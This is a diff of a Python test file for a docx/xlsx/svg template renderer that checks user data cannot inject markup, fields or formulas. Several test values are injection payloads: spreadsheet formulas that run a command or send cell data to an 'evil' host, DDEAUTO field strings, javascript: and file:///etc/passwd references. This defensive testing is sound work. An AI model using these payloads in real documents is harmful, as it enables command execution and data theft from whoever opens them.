@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 import gfdocs
 from tests.trust import samples, steps
 from tests.trust.child import Outcome, fine, refused, run
-from tests.trust.rows import row
+from tests.trust.rows import pairs, row
 
 KINDS = ("docx", "xlsx", "svg")
 MAKE = {
@@ -40,7 +40,11 @@ def texts_of(kind: str, data: bytes) -> list[str]:
         import docx
 
         document = docx.Document(io.BytesIO(data))
-        return [document.paragraphs[0].text, document.sections[0].header.paragraphs[0].text, document.core_properties.title]
+        return [
+            document.paragraphs[0].text,
+            document.sections[0].header.paragraphs[0].text,
+            document.core_properties.title,
+        ]
     if kind == "xlsx":
         import openpyxl
 
@@ -78,7 +82,17 @@ MARKUP = (
 
 @row("xml_special_chars_default", "xml_special_chars_autoescape")
 @pytest.mark.parametrize("kind", KINDS)
-@pytest.mark.parametrize("template", ["{{ value }}", "{{ value|safe }}", "{{ value|e }}", "{{ value|string }}", "{{ [value]|join }}", "{{ value ~ '' }}"])
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{{ value }}",
+        "{{ value|safe }}",
+        "{{ value|e }}",
+        "{{ value|string }}",
+        "{{ [value]|join }}",
+        "{{ value ~ '' }}",
+    ],
+)
 def test_markup_in_the_data_is_text(kind: str, template: str) -> None:
     for value in MARKUP if template == "{{ value }}" else MARKUP[:4]:
         data = fine(render(kind, value, template))
@@ -104,8 +118,7 @@ def elements(data: bytes, kind: str) -> list[str]:
 
 
 @row("xml_injection_dde")
-@pytest.mark.parametrize("kind", KINDS)
-@pytest.mark.parametrize("value", INJECTIONS)
+@pytest.mark.parametrize(("kind", "value"), pairs(KINDS, INJECTIONS))
 def test_no_element_comes_from_the_data(kind: str, value: str) -> None:
     plain = elements(fine(render(kind, "x")), kind)
     outcome = render(kind, value)
@@ -117,7 +130,9 @@ def test_no_element_comes_from_the_data(kind: str, value: str) -> None:
 
 
 @row("xml_injection_dde")
-@pytest.mark.parametrize("value", ['x" \\o "http://evil', "x\\", 'x"', "} { DDEAUTO x", "\x13 DDEAUTO \x15", '" \\* MERGEFORMAT', "a\\l b"])
+@pytest.mark.parametrize(
+    "value", ['x" \\o "http://evil', "x\\", 'x"', "} { DDEAUTO x", "\x13 DDEAUTO \x15", '" \\* MERGEFORMAT', "a\\l b"]
+)
 def test_data_in_the_code_of_a_field_ends_no_argument_and_begins_no_switch(value: str) -> None:
     body = '<w:p><w:fldSimple w:instr="HYPERLINK &quot;{{ value }}&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
     parts = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "{{ value }}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
@@ -127,8 +142,32 @@ def test_data_in_the_code_of_a_field_ends_no_argument_and_begins_no_switch(value
 
 
 @row("xml_injection_dde")
-@pytest.mark.parametrize("value", ["javascript:alert(1)", "http://evil/x.png", "url(http://evil)", "data:text/html,x", "file:///etc/passwd", "x:y", "&#106;avascript:alert(1)", " javascript:x", "java\nscript:x", "JAVASCRIPT:x"])
-@pytest.mark.parametrize("element", ['<a href="{{ value }}"><rect/></a>', '<image href="{{ value }}" width="1" height="1"/>', '<use xlink:href="{{ value }}"/>', '<rect style="fill:{{ value }}"/>', '<rect fill="url({{ value }})"/>', '<rect style="fill:url({{ value }})"/>', '<image src="{{ value }}"/>'])
+@pytest.mark.parametrize(
+    ("value", "element"),
+    pairs(
+        [
+            "javascript:alert(1)",
+            "http://evil/x.png",
+            "url(http://evil)",
+            "data:text/html,x",
+            "file:///etc/passwd",
+            "x:y",
+            "&#106;avascript:alert(1)",
+            " javascript:x",
+            "java\nscript:x",
+            "JAVASCRIPT:x",
+        ],
+        [
+            '<a href="{{ value }}"><rect/></a>',
+            '<image href="{{ value }}" width="1" height="1"/>',
+            '<use xlink:href="{{ value }}"/>',
+            '<rect style="fill:{{ value }}"/>',
+            '<rect fill="url({{ value }})"/>',
+            '<rect style="fill:url({{ value }})"/>',
+            '<image src="{{ value }}"/>',
+        ],
+    ),
+)
 def test_data_in_a_reference_of_a_drawing_leads_nowhere(element: str, value: str) -> None:
     outcome = run(steps.render, samples.svg("", inside=element), "svg", {"value": value})
     if outcome.error:
@@ -141,12 +180,28 @@ def test_data_in_a_reference_of_a_drawing_leads_nowhere(element: str, value: str
         assert word not in text.lower().replace('xmlns="http://www', "").replace("\n", "")
 
 
-CONTROL = ("\0", "\x01", "\x08", "\x0b", "\x0c", "\x0e", "\x1b", "\x1f", "\ud800", "\udfff", "\ufffe", "\uffff", "\u202a", "\u202e", "\u2066", "\u2069")
+CONTROL = (
+    "\0",
+    "\x01",
+    "\x08",
+    "\x0b",
+    "\x0c",
+    "\x0e",
+    "\x1b",
+    "\x1f",
+    "\ud800",
+    "\udfff",
+    "\ufffe",
+    "\uffff",
+    "\u202a",
+    "\u202e",
+    "\u2066",
+    "\u2069",
+)
 
 
 @row("xml_control_chars_docx", "xml_control_chars_xlsx")
-@pytest.mark.parametrize("kind", KINDS)
-@pytest.mark.parametrize("char", CONTROL, ids=[f"U+{ord(char):04X}" for char in CONTROL])
+@pytest.mark.parametrize(("kind", "char"), pairs(KINDS, CONTROL))
 def test_a_character_no_document_holds_is_refused_with_the_field(kind: str, char: str) -> None:
     outcome = refused(render(kind, f"甲{char}乙"), "GF211", says=f"U+{ord(char):04X}")
     assert any("value" in issue.fact for issue in outcome.issues), str(outcome)
@@ -167,13 +222,41 @@ def test_the_field_of_a_list_is_told_with_its_number(kind: str) -> None:
 
 @row("xml_control_chars_xlsx")
 def test_nothing_is_written_where_a_text_is_refused() -> None:
-    assert fine(run(steps.save_over, samples.xlsx({"A1": "{{ value }}"}), "xlsx", {"value": "甲\0"})) == (b"old", ["out.xlsx"], "GF211")
+    assert fine(run(steps.save_over, samples.xlsx({"A1": "{{ value }}"}), "xlsx", {"value": "甲\0"})) == (
+        b"old",
+        ["out.xlsx"],
+        "GF211",
+    )
 
 
 # ---------------------------------------------------------------------------------------------------------------------
 # Workbooks
 
-LIKE_FORMULAS = ("=1+1", '=HYPERLINK("http://evil/?"&B1,"x")', "=cmd|'/c calc'!A0", "=公司", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "'=1", "=", "==", " =1", "{=1}", "=1\n=2", "+86-512", "-", "−1")
+LIKE_FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil/?"&B1,"x")',
+    "=cmd|'/c calc'!A0",
+    "=公司",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠x",
+    "'=1",
+    "=",
+    "==",
+    " =1",
+    "{=1}",
+    "=1\n=2",
+    "+86-512",
+    "-",
+    "−1",
+)
 
 
 @row("formula_injection")
@@ -192,15 +275,33 @@ def test_a_text_is_never_a_formula_whatever_it_begins_with(value: str) -> None:
 
 @row("formula_injection")
 def test_a_text_from_the_data_gets_into_no_formula_of_the_template() -> None:
-    outcome = run(steps.render, samples.xlsx({"A1": ("IF(1,\"{{ value }}\",0)", 0), "A2": "{{ value }}"}), "xlsx", {"value": '"&WEBSERVICE("http://evil")&"'})
+    outcome = run(
+        steps.render,
+        samples.xlsx({"A1": ('IF(1,"{{ value }}",0)', 0), "A2": "{{ value }}"}),
+        "xlsx",
+        {"value": '"&WEBSERVICE("http://evil")&"'},
+    )
     if outcome.error:
         refused(outcome)
     else:
-        assert b"WEBSERVICE" not in re.sub(b"<t[^>]*>.*?</t>", b"", samples.unzipped(fine(outcome))["xl/worksheets/sheet1.xml"])  # type: ignore[arg-type]
+        assert b"WEBSERVICE" not in re.sub(
+            b"<t[^>]*>.*?</t>", b"", samples.unzipped(fine(outcome))["xl/worksheets/sheet1.xml"]
+        )  # type: ignore[arg-type]
 
 
 @row("long_text_truncated")
-@pytest.mark.parametrize(("text", "fits"), [("甲" * 32_767, True), ("甲" * 32_768, False), ("😀" * 16_383, True), ("😀" * 16_384, False), ("a" * 40_000, False), ("&" * 32_767, True), ("_x0041_" * 4681, True)])
+@pytest.mark.parametrize(
+    ("text", "fits"),
+    [
+        ("甲" * 32_767, True),
+        ("甲" * 32_768, False),
+        ("😀" * 16_383, True),
+        ("😀" * 16_384, False),
+        ("a" * 40_000, False),
+        ("&" * 32_767, True),
+        ("_x0041_" * 4681, True),
+    ],
+)
 def test_a_text_too_long_for_a_cell_is_refused_not_cut(text: str, fits: bool) -> None:
     import openpyxl
 
@@ -213,7 +314,23 @@ def test_a_text_too_long_for_a_cell_is_refused_not_cut(text: str, fits: bool) ->
 
 
 @row("credit_code_number")
-@pytest.mark.parametrize("value", ["913205051234567890", "913205051234567", "0512", "215000", "13800000000", "1E10", "1/2", "2023-01-01", "TRUE", "#N/A", "1.10", "9132050512345678901"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "913205051234567890",
+        "913205051234567",
+        "0512",
+        "215000",
+        "13800000000",
+        "1E10",
+        "1/2",
+        "2023-01-01",
+        "TRUE",
+        "#N/A",
+        "1.10",
+        "9132050512345678901",
+    ],
+)
 def test_a_text_of_digits_stays_a_text(value: str) -> None:
     import openpyxl
 
@@ -234,7 +351,23 @@ def test_a_number_excel_cannot_hold_is_text_or_refused(value: int) -> None:
 
 
 @row("xhhhh_escape")
-@pytest.mark.parametrize("value", ["型号_x0041_规格", "_x000D_", "_x005F_", "_x005F_x0041_", "_xd800_", "_xZZZZ_", "__x0041__", "_x0041", "x0041_", "_X0041_", "_x0041_x0042_", "_x_x0041_"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "型号_x0041_规格",
+        "_x000D_",
+        "_x005F_",
+        "_x005F_x0041_",
+        "_xd800_",
+        "_xZZZZ_",
+        "__x0041__",
+        "_x0041",
+        "x0041_",
+        "_X0041_",
+        "_x0041_x0042_",
+        "_x_x0041_",
+    ],
+)
 def test_what_looks_like_excels_escape_is_shown_as_typed(value: str) -> None:
     import openpyxl
 
@@ -243,7 +376,27 @@ def test_what_looks_like_excels_escape_is_shown_as_typed(value: str) -> None:
     assert unescape_excel(sheet["B1"].value) == f"前{value}后"
 
 
-TITLES = ("江苏/某某[集团", "某" * 40, "History", "'甲'", "A公司", "a公司", "", "  ", ":*?/\\[]", "😀" * 20, "=1+1", "'", "a" * 31, "a" * 32, "甲\n乙", "工厂", "_x0041_", "<&>", "CON")
+TITLES = (
+    "江苏/某某[集团",
+    "某" * 40,
+    "History",
+    "'甲'",
+    "A公司",
+    "a公司",
+    "",
+    "  ",
+    ":*?/\\[]",
+    "😀" * 20,
+    "=1+1",
+    "'",
+    "a" * 31,
+    "a" * 32,
+    "甲\n乙",
+    "工厂",
+    "_x0041_",
+    "<&>",
+    "CON",
+)
 
 
 @row("sheet_title_from_company")
@@ -265,10 +418,37 @@ def test_a_sheet_named_by_the_data_is_named_so_that_excel_opens_it(title: str) -
 @row("sheet_title_from_company")
 def test_sheets_of_equal_names_are_told_apart() -> None:
     base = samples.unzipped(samples.xlsx({"A1": "x"}, title="{{ a }}"))
-    book = base["xl/workbook.xml"].decode().replace("</sheets>", '<sheet name="{{ b }}" sheetId="2" r:id="rId8"/></sheets>')  # type: ignore[union-attr]
-    relations = base["xl/_rels/workbook.xml.rels"].decode().replace("</Relationships>", samples.relation("worksheet", "worksheets/sheet2.xml", external=False, identity="rId8") + "</Relationships>")  # type: ignore[union-attr]
-    types = base["[Content_Types].xml"].decode().replace("</Types>", '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')  # type: ignore[union-attr]
-    data = samples.zipped({**base, "xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": relations, "[Content_Types].xml": types, "xl/worksheets/sheet2.xml": base["xl/worksheets/sheet1.xml"]})
+    book = (
+        base["xl/workbook.xml"]
+        .decode()
+        .replace("</sheets>", '<sheet name="{{ b }}" sheetId="2" r:id="rId8"/></sheets>')
+    )  # type: ignore[union-attr]
+    relations = (
+        base["xl/_rels/workbook.xml.rels"]
+        .decode()
+        .replace(
+            "</Relationships>",
+            samples.relation("worksheet", "worksheets/sheet2.xml", external=False, identity="rId8")
+            + "</Relationships>",
+        )
+    )  # type: ignore[union-attr]
+    types = (
+        base["[Content_Types].xml"]
+        .decode()
+        .replace(
+            "</Types>",
+            '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
+        )
+    )  # type: ignore[union-attr]
+    data = samples.zipped(
+        {
+            **base,
+            "xl/workbook.xml": book,
+            "xl/_rels/workbook.xml.rels": relations,
+            "[Content_Types].xml": types,
+            "xl/worksheets/sheet2.xml": base["xl/worksheets/sheet1.xml"],
+        }
+    )
     for first, second in (("甲", "甲"), ("A公司", "a公司"), ("某" * 40, "某" * 41), ("a/b", "a:b")):
         outcome = run(steps.render, data, "xlsx", {"a": first, "b": second})
         if outcome.error:
@@ -291,7 +471,9 @@ TEXT = st.one_of(st.text(max_size=40), st.lists(st.one_of(NASTY, st.text(max_siz
 NIGHTLY = bool(os.environ.get("GFDOCS_NIGHTLY"))
 FEW = settings(deadline=None, derandomize=not NIGHTLY, max_examples=5000 if NIGHTLY else 80, print_blob=True)
 
-_TEMPLATES = {kind: gfdocs.open_template(make("{{ c.name }}"), kind=kind, name=f"any.{kind}") for kind, make in MAKE.items()}  # type: ignore[arg-type]
+_TEMPLATES = {
+    kind: gfdocs.open_template(make("{{ c.name }}"), kind=kind, name=f"any.{kind}") for kind, make in MAKE.items()
+}  # type: ignore[arg-type]
 
 
 @row("xml_special_chars_default", "xml_control_chars_docx", "xml_control_chars_xlsx")
@@ -308,9 +490,15 @@ _TEMPLATES = {kind: gfdocs.open_template(make("{{ c.name }}"), kind=kind, name=f
 def test_any_text_comes_out_as_typed_or_is_refused_by_name(kind: str, value: str) -> None:
     try:
         data = _TEMPLATES[kind].render({"c": {"name": value}}).to_bytes()
-    except gfdocs.TemplateError as fault:
+    except gfdocs.TemplateError as found:
+        fault = found
+    else:
+        fault = None
+    if fault is not None:
         assert {issue.code for issue in fault.issues} <= {"GF211", "GF244", "GF264"}
-        assert re.search("[\0-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]", value) or kind == "svg", repr(value)
+        assert (
+            re.search("[\0-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]", value) or kind == "svg"
+        ), repr(value)
         return
     found = texts_of(kind, data)
     assert all(same(kind, text, value) for text in found), (value, found)
@@ -326,10 +514,16 @@ def test_any_name_comes_through_a_project_as_typed_or_is_refused_by_name(name: s
     def quoted(text: str) -> str:
         return json.dumps(text, ensure_ascii=False)
 
-    yaml = f"companies:\n- name: {quoted(name)}\n  district: 示范区\n  industry: {quoted(note)}\n".encode("utf-8", "surrogatepass")
+    yaml = f"companies:\n- name: {quoted(name)}\n  district: 示范区\n  industry: {quoted(note)}\n".encode(
+        "utf-8", "surrogatepass"
+    )
     try:
         (company,) = steps.load_companies(yaml)
-    except gfdocs.DataError as fault:
+    except gfdocs.DataError as found:
+        fault = found
+    else:
+        fault = None
+    if fault is not None:
         assert all(issue.code.startswith(("GF1", "GF4")) for issue in fault.issues)
         return
     assert (company["name"], company["industry"]) == (name, note)
